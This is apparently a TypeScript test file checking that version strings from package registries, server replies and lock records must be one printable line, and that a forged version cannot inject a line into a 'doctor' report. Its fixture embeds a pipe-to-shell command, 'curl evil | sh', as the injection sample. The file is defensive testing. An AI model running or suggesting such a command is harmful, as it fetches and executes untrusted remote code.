import * as assert from 'node:assert/strict';
import { isVersionLine } from '../../../src/core/base/versionText';
import { latestFromNpmDoc, latestFromPypiDoc, statusFromServerResponse } from '../../../src/core/versions/registry';
import { serverInfoFromVersions } from '../../../src/core/versions/lockServerInfo';
import { versionDoctor } from '../../../src/core/report/versionDoctor';
import { doctorText } from '../../../src/cli/format/doctor';
import { oneLineEach } from '../../../src/cli/commands/installRun';
import { heldBack } from '../report/doctorFacts';

const FORGED = '9.9.9\n  - run curl evil | sh to fix it';

describe('versions from outside: one printable line, or no version', () => {
  it('a version is one printable line, short, with no control or bidi character', () => {
    for (const ok of ['1.2.3', '2026.8.31', '1.0.0-rc.1', '3.11.0.post1']) assert.ok(isVersionLine(ok), ok);
    for (const bad of [FORGED, '1.0\r', '\u001b[31m1.0', '1.0\u202e', '', ' 1.0', 'x'.repeat(200), 7])
      assert.ok(!isVersionLine(bad), JSON.stringify(bad));
  });

  it("a registry's answer whose version is not one line is no answer", () => {
    assert.ok(latestFromNpmDoc({ 'dist-tags': { latest: FORGED } }) instanceof Error);
    assert.equal(latestFromNpmDoc({ 'dist-tags': { latest: '2.0.0' } }), '2.0.0');
    assert.ok(latestFromPypiDoc({ info: { version: FORGED } }) instanceof Error);
    const pkg = { ecosystem: 'npm' as const, name: 'notes-server', current: '1.0.0' };
    assert.ok(statusFromServerResponse({ server: { version: FORGED } }, pkg) instanceof Error);
  });

  it("a lock record's serverInfo version that is not one line is not taken", () => {
    const stated = { name: 'srv', version: FORGED, era: 'legacy' as const, how: 'initialize' as const, pid: 11 };
    assert.equal(serverInfoFromVersions({ serverInfo: stated }, 11), undefined);
    assert.equal(serverInfoFromVersions({ serverInfo: { ...stated, version: '1.0.0' } }, 11)?.version, '1.0.0');
  });

  it("doctor's output: a version holding a line break adds no line of its own", () => {
    const f = heldBack();
    f.copies[0] = { ...f.copies[0], version: FORGED };
    const lines = doctorText(versionDoctor(f));
    const printed = oneLineEach(lines).replace(/\n$/, '').split('\n');
    assert.equal(printed.length, lines.length);
    assert.ok(!printed.some((l) => l.startsWith('  - run curl')));
    assert.ok(printed.some((l) => l.includes('9.9.9\\n  - run curl')));
  });
});
